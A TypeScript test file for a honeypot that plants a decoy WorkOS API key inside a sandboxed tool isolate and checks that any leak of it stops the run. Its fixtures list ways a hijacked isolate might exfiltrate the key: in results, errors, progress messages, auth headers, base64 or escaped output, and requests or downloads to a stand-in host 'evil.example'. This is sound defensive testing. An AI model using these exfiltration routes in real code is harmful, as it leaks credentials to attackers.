import { beforeAll, describe, expect, it } from 'vitest';
import { stop } from '../../../src/gateway/stop.ts';
import { startHoneypot } from '../access/honeypot-bench.ts';
import { callOf } from '../gateway/support.ts';
import { bundleProgram, JOB, openIsolate, ROGUE } from './support.ts';

let file: string;
beforeAll(async () => {
  file = await bundleProgram('isolate');
});
const STOPPED = { code: 'STOPPED' };

/** An isolate behind a honeypot, whose calls end with a stop as they do behind the gateway. */
function openBaited(program: string) {
  const bench = startHoneypot();
  const { executor, act } = openIsolate({ file: program, lookout: bench.lookout });
  const run = stop(bench.killSwitch)(async ({ input, signal, tool }) => ({
    ok: true,
    draft: await executor.run(
      { ...JOB, tool: tool.name, input },
      { signal, progress: () => undefined, confirm: async () => true },
    ),
  }));
  return { ...bench, act, call: (input: object) => run(callOf('list_directories', { input })) };
}

describe('in an isolate', () => {
  it('the environment holds the decoy key, and nothing else', async () => {
    const lookout = { look: () => undefined, decoyKey: () => 'sk_live_bait' };
    expect(await openIsolate({ file, lookout }).act('loot')).toEqual({
      texts: [],
      process: { env: { WORKOS_API_KEY: 'sk_live_bait' } },
      frozen: true,
    });
  });

  it('there is nothing at all without a honeypot', async () => {
    expect(await openIsolate({ file }).act('loot')).toEqual({ texts: [], frozen: true });
  });

  it('a thief who finds it gives himself away', async () => {
    const { call, sightings, isStopped } = openBaited(file);
    await expect(call({ act: 'loot' })).rejects.toMatchObject(STOPPED);
    expect(sightings).toEqual([{ decoy: 'key', where: 'a result of list_directories' }]);
    expect(isStopped()).toBe(true);
  });

  it('that was warm while others resumed, there is the new one as well', async () => {
    const { call, killSwitch, lookout, act, isStopped } = openBaited(file);
    expect(await act('ok')).toBe('ok');
    // As where it was shown to another process.
    lookout.look(lookout.decoyKey(), 'a test');
    killSwitch.resume();
    await expect(call({ act: 'loot' })).rejects.toMatchObject(STOPPED);
    expect(isStopped()).toBe(true);
  });
});

const API = { type: 'api', method: 'GET' };
const url = 'http://127.0.0.1:9/organizations';

describe('the decoy key is seen when an isolate that was taken over puts it into', () => {
  it.each([
    ['a result', { type: 'result', draft: { value: { items: [{ name: 'KEY' }] } } }],
    ['an error', { type: 'failure', error: { code: 'NOT_FOUND', message: 'There is no KEY.' } }],
    ['an error', { type: 'fault', text: 'TypeError: KEY' }],
    ['what is told while it runs', { type: 'progress', progress: { message: 'KEY' } }],
    ['a question to the person', { type: 'ask', question: 'Is it KEY?' }],
    ['a request to WorkOS', { ...API, url: `${url}?search=KEY` }],
    ['a request to WorkOS', { ...API, method: 'POST', url, body: '{"name":"KEY"}' }],
    ['a request to WorkOS', { ...API, url, headers: { authorization: 'Bearer KEY' } }],
    ['a request to WorkOS', { ...API, url: 'https://evil.example/KEY' }],
    ['a download', { type: 'download', url: 'https://evil.example/KEY' }],
  ])('%s: %j', async (where, message) => {
    const { call, sightings, isStopped } = openBaited(ROGUE);
    await expect(call({ act: 'show', message })).rejects.toMatchObject(STOPPED);
    expect(sightings).toEqual([{ decoy: 'key', where: `${where} of list_directories` }]);
    expect(isStopped()).toBe(true);
  });

  it.each(['base64', 'escaped'])('a result, %s', async (how) => {
    const { call, isStopped } = openBaited(ROGUE);
    const message = { type: 'result', draft: { value: 'KEY' } };
    await expect(call({ act: 'show', how, message })).rejects.toMatchObject(STOPPED);
    expect(isStopped()).toBe(true);
  });

  it('what is no message', async () => {
    const { call, sightings } = openBaited(ROGUE);
    await expect(call({ act: 'show', message: 'garbage KEY' })).rejects.toMatchObject(STOPPED);
    expect(sightings).toEqual([{ decoy: 'key', where: 'what the process of the tools says' }]);
  });
});
